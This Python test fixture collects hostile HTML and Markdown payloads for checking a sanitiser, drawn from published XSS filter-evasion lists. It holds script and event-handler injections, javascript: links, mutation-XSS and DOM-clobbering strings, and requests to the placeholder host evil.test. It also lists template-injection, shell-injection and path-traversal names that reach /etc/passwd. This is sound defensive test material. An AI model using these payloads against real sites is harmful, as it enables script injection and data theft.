"""Hostile HTML and Markdown: known ways to get a script, a request or a form past a sanitiser.

Each calls ``pwn()`` or requests something of ``evil.test``, so that a browser shows whether it works. Sources: OWASP's XSS
filter evasion cheat sheet, PortSwigger's list, the published bypasses of DOMPurify, Bleach and ammonia, html5sec.org.
"""

from __future__ import annotations

IMG = "<img data-hostile src=x onerror=pwn()>"
FAR = "http://evil.test/"

SCRIPTS = {
    "script": "<script>pwn()</script>",
    "script-case": "<ScRiPt>pwn()</sCrIpT>",
    "script-slash": "<script/x/y>pwn()</script/z>",
    "script-newline": "<script\n>\npwn()</script\n>",
    "script-remote": f"<script src={FAR}a.js></script>",
    "script-no-scheme": "<script src=//evil.test/b.js></script>",
    "script-data": "<script src='data:text/javascript,pwn()'></script>",
    "script-module": "<script type=module>pwn()</script>",
    "script-unclosed": "<script>pwn()//",
    "script-nested": "<scr<script>ipt>pwn()</scr</script>ipt>",
    "script-doubled": "<<script>pwn()//<</script>",
    "script-after-close": "</p></div></article></main><script>pwn()</script>",
    "script-inline": "行内<script>pwn()</script>文字",
    "script-in-list": "- 一\n- <script>pwn()</script>\n",
    "script-in-quote": "> <script>pwn()</script>\n",
    "script-in-table": "| 甲 | 乙 |\n|---|---|\n| <script>pwn()</script> | <img src=x onerror=pwn()> |\n",
    "script-in-definition": "词\n:   <script>pwn()</script>\n",
    "script-in-footnote": "注[^1]\n\n[^1]: <script>pwn()</script><img src=x onerror=pwn()>\n",
    "script-in-heading": "## <script>pwn()</script> {: #x onclick=pwn() }\n",
    "script-in-link": "[<img src=x onerror=pwn()>](/index.html)",
    "script-in-emphasis": "**<script>pwn()</script>** *<svg onload=pwn()>*",
    "script-null": "<scr\0ipt>pwn()</scr\0ipt><img src=x one\0rror=pwn()>",
    "script-long-s": "<ſcript>pwn()</ſcript>",
    "script-fullwidth": "＜script＞pwn()＜/script＞",
    "script-utf7": "<meta charset=utf-7>+ADw-script+AD4-pwn()+ADw-/script+AD4-",
    "script-entities": "&lt;script&gt;pwn()&lt;/script&gt; &amp;lt;img src=x onerror=pwn()&amp;gt;",
    "script-code": "`<script>pwn()</script>`\n\n    <script>pwn()</script>\n",
    "script-percent": "<%<!--'%><script>pwn();</script -->",
    "script-jscript": "<script language=vbscript>pwn()</script><script language=JScript.Encode>pwn()</script>",
    "script-placeholder": "\x02wzxhzdk:0\x03<script>pwn()</script>klzzwxh:0000",
}

EVENTS = {
    "img-onerror": "<img src=x onerror=pwn()>",
    "img-onerror-slashes": "<img/src=x/onerror=pwn()>",
    "img-onerror-unclosed": "<img src=x onerror=pwn() ",
    "img-onerror-upper": "<IMG SRC=x ONERROR=pwn()>",
    "img-onerror-newlines": "<img\nsrc=x\n\tonerror\n=\n'pwn()'\n>",
    "img-onerror-formfeed": "<img\fsrc=x\fonerror=pwn()>",
    "img-onerror-entities": "<img src=x onerror=\"&#112;&#x77;n()\">",
    "img-quotes": '<img """><script>pwn()</script>">',
    "img-grave": "<img src=`x`onerror=pwn()>",
    "img-equals": "<img src=x ===== onerror=pwn()>",
    "img-junk": "<img !#$%&()*~+-_.,:;?@[/|\\]^`=x src=x onerror=pwn()>",
    "img-self": "<img src=x onerror=pwn() / ><image src=x onerror=pwn()>",
    "img-greater": "<img title='>' src=x onerror=pwn()>",
    "body-onload": "<body onload=pwn() onpageshow=pwn()>",
    "details-ontoggle": "<details open ontoggle=pwn()><summary>开</summary>文</details>",
    "input-autofocus": "<input autofocus onfocus=pwn()>",
    "select-autofocus": "<select autofocus onfocus=pwn()><option>x</select>",
    "textarea-autofocus": "<textarea autofocus onfocus=pwn()></textarea>",
    "any-autofocus": "<p tabindex=1 autofocus onfocus=pwn()>文</p><a id=x href=# autofocus onfocus=pwn()>链</a>",
    "video-onerror": "<video src=x onerror=pwn()></video><audio src=x onerror=pwn()></audio>",
    "source-onerror": "<video><source onerror=pwn()></video>",
    "marquee-onstart": "<marquee onstart=pwn()>文</marquee>",
    "animation": "<style>@keyframes x{}</style><p style='animation-name:x' onanimationstart=pwn()>文</p>",
    "transition": "<b style='transition:color 1ms;color:red' ontransitionend=pwn() ontransitionrun=pwn()>文</b>",
    "content-visibility": "<b oncontentvisibilityautostatechange=pwn() style=display:block;content-visibility:auto>文</b>",
    "popover": "<button popovertarget=x>点</button><b popover id=x onbeforetoggle=pwn()>文</b>",
    "pointer": "<td onmouseover=pwn()><b onclick=pwn() onpointerenter=pwn() onwheel=pwn()>文</b></td>",
    "dialog": "<dialog open onclose=pwn()><form method=dialog><button>关</button></form></dialog>",
    "custom-element": "<rr-item onclick=pwn() is=x>文</rr-item><x onfocus=pwn() tabindex=0 autofocus>文</x>",
    "scroll": "<p onscrollsnapchange=pwn() onscroll=pwn() style='overflow:scroll'>文</p>",
    "td-event": "<table onload=pwn()><tr><td style='text-align:left' onclick=pwn()>文</td></tr></table>",
}

ADDRESSES = {
    "href-javascript": "<a href=javascript:pwn()>点</a>",
    "href-case": "<a href='JaVaScRiPt:pwn()'>点</a>",
    "href-entity": "<a href='&#106;&#x61;vascript&colon;pwn()'>点</a>",
    "href-tab": "<a href='java&Tab;scr&#10;ipt:pwn()'>点</a><a href='jav\tascript:pwn()'>点</a>",
    "href-control": "<a href='&#1;&#14; javascript:pwn()'>点</a>",
    "href-comment": "<a href='javascript://evil.test/%0Apwn()'>点</a>",
    "href-vbscript": "<a href='vbscript:pwn()'>点</a><a href='livescript:pwn()'>点</a>",
    "href-data": "<a href='data:text/html,<script>pwn()</script>'>点</a>",
    "href-blob": "<a href='blob:null/1'>点</a><a href='filesystem:x'>点</a><a href='view-source:file:///'>点</a>",
    "href-nested": "<a href='feed:javascript:pwn()'>点</a><a href='jar:javascript:pwn()!/x'>点</a>",
    "href-intent": "<a href='intent://x#Intent;scheme=http;end'>点</a><a href='ms-msdt:/id'>点</a><a href='search-ms:q=x'>点</a>",
    "href-file": "<a href='file:///etc/passwd'>点</a><a href='\\\\evil.test\\share\\x.exe'>点</a>",
    "href-marker": "<a href='outside:javascript:pwn()'>点</a><a href='item:\"onclick=pwn()'>点</a>",
    "href-before-title": f"<a title='{FAR}\"><img src=x onerror=pwn()>' href='{FAR}'>点</a>",
    "href-late": f"<a id=q title=t href={FAR}x target=_blank ping={FAR}p rel=opener download>点</a>",
    "title-breaks-out": "<p title='<table onmouseover=pwn() x=\"'>文</p><abbr title='<h1 onclick=pwn()>'>文</abbr>",
    "title-closes": "<p title='\"><script>pwn()</script>'>文</p><p title=\"' onclick='pwn()\">文</p>",
    "cell-breaks-out": "<table title='<td style=\"text-align: left\"'><tr><td title=' style=\"text-align: left\" onclick=\"pwn()'>文</td></tr></table>",
    "area": "<map name=m><area shape=default href=javascript:pwn()></map><img usemap=#m src=x>",
    "cite": "<blockquote cite=javascript:pwn()>文</blockquote><q cite=javascript:pwn()>文</q><del cite=javascript:pwn()>文</del>",
    "base": f"<base href={FAR}><base target=_blank>",
    "base-script": "<base href='javascript:/*'><a href='*/pwn()//'>点</a>",
}

FRAMES = {
    "iframe-javascript": "<iframe src=javascript:pwn()></iframe>",
    "iframe-data": "<iframe src='data:text/html,<script>pwn()</script>'></iframe>",
    "iframe-srcdoc": "<iframe srcdoc='<script>parent.pwn();pwn()</script>'></iframe>",
    "iframe-srcdoc-entities": "<iframe srcdoc='&lt;script&gt;pwn()&lt;/script&gt;'></iframe>",
    "iframe-remote": f"<iframe src={FAR}frame></iframe>",
    "iframe-onload": "<iframe onload=pwn()></iframe>",
    "frameset": "<frameset onload=pwn()><frame src=javascript:pwn()></frameset>",
    "object": "<object data=javascript:pwn()></object><object data='data:text/html,<script>pwn()</script>'></object>",
    "object-remote": f"<object data={FAR}o></object><applet code=x archive={FAR}j></applet>",
    "embed": f"<embed src=javascript:pwn()><embed src={FAR}e>",
    "portal": f"<portal src={FAR}></portal><fencedframe></fencedframe>",
    "meta-refresh": f"<meta http-equiv=refresh content='0;url={FAR}r'>",
    "meta-refresh-script": "<meta http-equiv=refresh content='0;url=data:text/html,<script>pwn()</script>'>",
    "meta-cookie": "<meta http-equiv=set-cookie content='a=b'><meta name=referrer content=unsafe-url>",
    "form": f"<form action={FAR} method=post><input name=q><button>提交</button></form>",
    "form-script": "<form action=javascript:pwn()><input type=submit><button formaction=javascript:pwn()>点</button></form>",
    "form-outer": f"<input type=image src={FAR}i.png form=f formaction=javascript:pwn()><keygen autofocus onfocus=pwn()><isindex action=javascript:pwn()>",
}

RESOURCES = {
    "img-remote": f"<img src={FAR}a.png>",
    "img-no-scheme": "<img src=//evil.test/b.png><img src='/\\evil.test/b.png'><img src='\\\\evil.test\\b.png'>",
    "img-srcset": f"<img srcset='{FAR}c.png 1x, {FAR}d.png 2x'>",
    "img-odd": f"<img dynsrc={FAR}e lowsrc={FAR}f longdesc={FAR}g>",
    "img-data": "<img src='data:image/svg+xml,<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"pwn()\"/>'>",
    "picture": f"<picture><source srcset={FAR}h.png><img src=x></picture>",
    "video-poster": f"<video poster={FAR}i.png src={FAR}v.mp4 autoplay></video>",
    "audio": f"<audio src={FAR}a.mp3 autoplay></audio><bgsound src={FAR}b.mid>",
    "track": f"<video><track default src={FAR}t.vtt></video>",
    "background": f"<body background={FAR}j.png><table background={FAR}k.png><tr><td background={FAR}l.png>文</td></tr></table>",
    "link": f"<link rel=stylesheet href={FAR}m.css><link rel=icon href={FAR}n.ico>",
    "link-hints": f"<link rel=prefetch href={FAR}o><link rel=preload as=image href={FAR}p><link rel=dns-prefetch href={FAR}><link rel=preconnect href={FAR}>",
    "link-import": f"<link rel=import href={FAR}q><link rel=manifest href={FAR}r>",
    "style": f"<style>*{{background:url({FAR}s.png)}}</style>",
    "style-import": f"<style>@import '{FAR}t.css'; @font-face{{font-family:x;src:url({FAR}u.woff)}} *{{font-family:x}}</style>",
    "style-attribute": f"<p style='background:url({FAR}v.png)'>文</p><p style='background-image:u\\72l({FAR}w.png)'>文</p>",
    "style-cell": f"<table><tr><td style='text-align:right;background:url({FAR}x.png)'>文</td><th style='text-align:left;position:fixed'>文</th></tr></table>",
    "style-expression": "<p style='width:expression(pwn());-moz-binding:url(x#y);behavior:url(x.htc)'>文</p>",
    "style-overlay": "<div style='position:fixed;inset:0;z-index:9999;background:white'>伪造的通知</div>",
    "xml-stylesheet": f"<?xml-stylesheet href='{FAR}y.xsl'?><?import namespace=t implementation='#x'?><xml src={FAR}z>",
    "doctype": f"<!DOCTYPE html SYSTEM '{FAR}d.dtd' [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>&x;",
}

FOREIGN = {
    "svg-onload": "<svg onload=pwn()>",
    "svg-script": "<svg><script>pwn()</script></svg>",
    "svg-script-href": "<svg><script href='data:text/javascript,pwn()'/></svg>",
    "svg-entities": "<svg><script>&#112;wn()</script></svg>",
    "svg-link": "<svg><a xlink:href=javascript:pwn() href=javascript:pwn()><text y=20>点</text></a></svg>",
    "svg-animate": "<svg><a><animate attributeName=href values=javascript:pwn() begin=0s /><text y=20>点</text></a></svg>",
    "svg-onbegin": "<svg><animate onbegin=pwn() attributeName=x dur=1s><set onbegin=pwn() attributeName=x></svg>",
    "svg-use": "<svg><use href='data:image/svg+xml,<svg id=x xmlns=\"http://www.w3.org/2000/svg\"><image href=1 onerror=pwn() /></svg>#x' /></svg>",
    "svg-image": f"<svg><image href={FAR}s.png xlink:href={FAR}t.png /><feImage href={FAR}u.png /></svg>",
    "svg-foreign-object": "<svg><foreignObject><iframe srcdoc='<script>pwn()</script>'></iframe><body onload=pwn()></foreignObject></svg>",
    "svg-style": f"<svg><style>@import '{FAR}v.css';</style></svg>",
    "math-link": "<math href=javascript:pwn()><maction actiontype=statusline xlink:href=javascript:pwn()>点</maction></math>",
    "mxss-mglyph": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=pwn()&gt;'>",
    "mxss-form": "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwn()>",
    "mxss-svg-style": "<svg></p><style><a id='</style><img src=1 onerror=pwn()>'>",
    "mxss-desc": "<svg><desc><style><img title='</style></desc></svg><img src=x onerror=pwn()>'>",
    "mxss-annotation": "<math><annotation-xml encoding=text/html><style><img title='</style><img src=x onerror=pwn()>'></annotation-xml></math>",
    "mxss-noscript": "<noscript><p title='</noscript><img src=x onerror=pwn()>'></noscript>",
    "mxss-textarea": "<textarea><p title='</textarea><img src=x onerror=pwn()>'>",
    "mxss-title": "<title><p title='</title><img src=x onerror=pwn()>'>",
    "mxss-xmp": "<xmp><p title='</xmp><img src=x onerror=pwn()>'></xmp><listing>&lt;img src=x onerror=pwn()&gt;</listing>",
    "mxss-iframe": "<iframe><p title='</iframe><img src=x onerror=pwn()>'></iframe>",
    "mxss-noembed": "<noembed><p title='</noembed><img src=x onerror=pwn()>'></noembed><noframes><p title='</noframes><img src=x onerror=pwn()>'>",
    "mxss-select": "<select><template><style><!--</template><a rel='--></style></select><img src=x onerror=pwn()>'>",
    "mxss-table": "<table><a href='<svg onload=pwn()>'><caption><svg><title><style><img src='</style><img src=x onerror=pwn()>'></table>",
    "mxss-nesting": "<div>" * 600 + "<table><svg><style><a title='</style><img src=x onerror=pwn()>'>" + "</div>" * 600,
    "template": "<template><script>pwn()</script></template><template shadowrootmode=open><img src=x onerror=pwn()></template>",
    "plaintext": "<plaintext><img src=x onerror=pwn()>",
}

COMMENTS = {
    "comment-early-end": "<!--><script>pwn()</script>-->",
    "comment-bang": "<!-- --!><img src=x onerror=pwn()> -->",
    "comment-dash": "<!---><img src=x onerror=pwn()>-->",
    "comment-open": "<!-- <img title='--><script>pwn()</script>'>",
    "comment-conditional": "<!--[if gte IE 4]><script>pwn()</script><![endif]-->",
    "cdata": "<![CDATA[<script>pwn()</script>]]>",
    "cdata-svg": "<svg><![CDATA[><img src=x onerror=pwn()>]]></svg>",
    "bogus-comment": "</ x='><img src=x onerror=pwn()>'><! x='><img src=x onerror=pwn()>'><? x='><img src=x onerror=pwn()>'>",
    "declaration": "<![if x]><img src=x onerror=pwn()><![endif]>",
}

CLOBBERING = {
    "clobber-name": "<img name=querySelector><form name=body><input name=querySelectorAll id=getElementById></form>",
    "clobber-id": "<p id=main>文</p><p id=q>文</p><p id=files-title>文</p><a id=pwn href=#>点</a>",
    "clobber-proto": "<p id=__proto__>文</p><p id=constructor>文</p><p id='a b\"><img src=x onerror=pwn()>'>文</p>",
    "clobber-hooks": "<p class='rr-search__input rr-header__bar' data-query=x data-action=print data-index=9/2014-x role=main aria-hidden=true>文</p>",
    "clobber-main": "</article></main><main id=main><article data-index=伪造 data-total=1 data-exact=true>伪造的正文</article>",
}

MARKDOWN = {
    "md-link": "[点](javascript:pwn())",
    "md-link-case": "[点](JaVaScRiPt:pwn())",
    "md-link-angle": "[点](<javascript:pwn()>) [点](< java\tscript:pwn()>)",
    "md-link-entity": "[点](java&#115;cript:pwn()) [点](&#x6A;avascript:pwn()) [点](javascript&colon;pwn())",
    "md-link-data": "[点](data:text/html;base64,PHNjcmlwdD5wd24oKTwvc2NyaXB0Pg==)",
    "md-link-title": "[点](/index.html \"\\\" onmouseover=\\\"pwn()\") [点](/index.html '\"><img src=x onerror=pwn()>')",
    "md-link-outside-title": f"[点]({FAR} '\"><img src=x onerror=pwn()>') [点]({FAR}\"onmouseover=pwn()\")",
    "md-reference": "[点][r] [r]\n\n[r]: javascript:pwn() '\"><script>pwn()</script>'\n",
    "md-image": "![图](javascript:pwn())",
    "md-image-remote": f"![图]({FAR}md.png) ![图][r]\n\n[r]: //evil.test/ref.png\n",
    "md-image-alt": "![\"onerror=\"pwn()](/x.png) ![\"><script>pwn()</script>](http://evil.test/y.png)",
    "md-autolink": "<javascript:pwn()> <http://evil.test/\"onmouseover=\"pwn()> <a'onclick='pwn()@evil.test>",
    "md-footnote": "注[^\"><img src=x onerror=pwn()>]\n\n[^\"><img src=x onerror=pwn()>]: 文\n",
    "md-attributes": "文\n{: onclick=\"pwn()\" onmouseover=pwn() style=\"background:url(http://evil.test/al.png)\" }\n",
    "md-attributes-href": "[点](/index.html){: href=\"javascript:pwn()\" target=_blank ping=http://evil.test/ }",
    "md-attributes-src": "![图](/x.png){: src=\"http://evil.test/as.png\" srcset=\"http://evil.test/at.png 1x\" onerror=pwn() }",
    "md-attributes-id": "## 题 {: #main id='\"><img src=x onerror=pwn()>' class='\"><script>pwn()</script>' }\n",
    "md-index": "[点](index:\"><img/src=x/onerror=pwn()>) <a href='index:x\" onclick=pwn() y=\"'>点</a>",
    "md-filename": "[点]({filename}javascript:pwn()) [点](|attach|javascript:pwn()) ![图]({static}//evil.test/f.png)",
    "md-filename-remote": "![图]({static}http://evil.test/g.png) ![图]({attach}ht\ttp://evil.test/h.png) [点]({filename}https://evil.test/i)",
    "md-filename-html": "<a href='{filename}java&#9;script:pwn()'>点</a><img src='|static|/\\evil.test/j.png'><img src='{static}\\\\evil.test\\k.png'>",
    "md-template": "{{ 7*7 }} {% include '/etc/passwd' %} {# x #} {{ pwn() }}",
    "md-entity-split": "&lt;img src=x onerror=pwn()&gt; <im<!-- -->g src=x onerror=pwn()> &#60;script&#62;pwn()&#60;/script&#62;",
    "md-backslash": "\\<script>pwn()\\</script> \\<img src=x onerror=pwn()\\>",
}

DISGUISES: dict[str, str] = (
    SCRIPTS | EVENTS | ADDRESSES | FRAMES | RESOURCES | FOREIGN | COMMENTS | CLOBBERING | MARKDOWN
)
"""Hostile bodies, by name."""

FIELD = f"</title></h1>\"'>{IMG}<script>pwn()</script><!-- {{{{ 7*7 }}}} {{% x %}} &lt;script&gt;pwn()&lt;/script&gt; javascript:pwn()"
"""A hostile text for every field of a header or a register."""

FIELDS = {
    "Title": FIELD, "Summary": FIELD, "Agency": FIELD, "Document-Number": FIELD, "Subject": FIELD, "Genre": FIELD,
    "Channel": FIELD, "Tags": FIELD.replace(";", ""), "Review": f"2014-03-17 {IMG.replace(' ', '/')} 可以公开{FIELD}",
    "Withdrawn": f"2014-06-01 {FIELD}",
}

FILE_NAMES = (
    "a'onmouseover='pwn()'.pdf", "&lt;img src=x onerror=pwn()&gt;.pdf", "%3Cscript%3Epwn()%3C%2Fscript%3E.pdf", "x#y.pdf", "100%.pdf",
    "%2e%2e%2fsecret.pdf", "{{7+7}}.pdf", "{% raw %}.pdf", "-rf.pdf", "`id`.pdf", "$(id).pdf", "[点](pwn()).pdf", "a;b&c=d+e.pdf",
    "javascript%3Apwn().pdf", "=cmd.csv", "两个  空格.pdf", "表😀.pdf", "x.html.pdf", "~a.b!@^_,.pdf",
)
"""Odd names that are allowed: each must be listed, linked and copied unchanged."""

REFUSED_NAMES = (
    "<img src=x onerror=pwn()>.pdf", 'a"b.pdf', "javascript:pwn().pdf", "{{7*7}}.pdf", "a\\b.pdf", "a\nb.pdf", "a\x1b[2Jb.pdf", "nul.pdf",
    "x.html", "x.svg", "x.js", "x.hta", "x.xhtml", "x.swf", "x.mht", "x.url", "x.lnk", "x.exe", "x.PDF.exe",
)
"""Names and types that may not be published."""

PATHS = (
    "../secret.pdf", "../../secret.pdf", "../../../../../../../../etc/passwd", "%2e%2e/%2e%2e/secret.pdf", "..%2f..%2fsecret.pdf",
    "..\\..\\secret.pdf", "sub/../../../secret.pdf", "/../../secret.pdf", "{filename}../../secret.pdf",
    "{filename}/../secret.pdf", "{static}/../../secret.pdf", "{attach}/etc/passwd", "|attach|../../secret.pdf",
    "file:///etc/passwd", "link.pdf", "folder/secret.pdf", "./link.pdf", ".hidden.pdf",
)
"""Links to a file outside the content folder; `link.pdf` and `folder` are symbolic links to outside."""
